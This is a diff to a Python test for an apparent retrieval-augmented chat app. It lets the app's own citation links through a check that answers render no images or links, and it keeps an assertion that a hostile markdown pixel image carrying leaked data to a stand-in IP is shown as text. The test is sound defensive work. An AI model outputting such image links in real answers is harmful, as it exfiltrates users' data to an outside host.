@@ -32,6 +32,8 @@ MARKDOWN_BITS = ["![a](http://h/p.png)", "[l](https://h/)", "<https://h>", "http
 TAG = re.compile(r"<[^>]*>")
 ANSWER_TAG = '<div class="rag-answer" style="margin-bottom:0.6rem">'
 ROOT = Path(__file__).resolve().parents[1]
+#: the only link the app adds to an answer: its own [n] citation to a hit card on the same page
+OWN_CITE = re.compile(r'<a class="rag-cite" href="#hit-[\w-]+" title="show chunk \[\d+\]">\[\d+\]</a>')
 
 
 def shown_text(markup: str) -> str:
@@ -81,7 +83,7 @@ def test_chat_answer_quoting_a_hostile_line_shows_it_as_text(app_root):
     assert drawn, "the answer was not drawn"
     for markup in drawn:  # the streamed answer and the hit card
         assert markup.startswith(('<div class="rag-answer"', '<div class="rag-hit"')), markup[:80]
-        assert "\n" not in markup and not re.search(r"<(img|a)\b", markup)
+        assert "\n" not in markup and not re.search(r"<(img|a)\b", OWN_CITE.sub("", markup))
     answer_markup = next(m for m in drawn if m.startswith('<div class="rag-answer"'))
     assert "![pixel](http://198.51.100.7/p.png?leak=kenya)" in shown_text(answer_markup)
     assert "[1]" in answer_markup
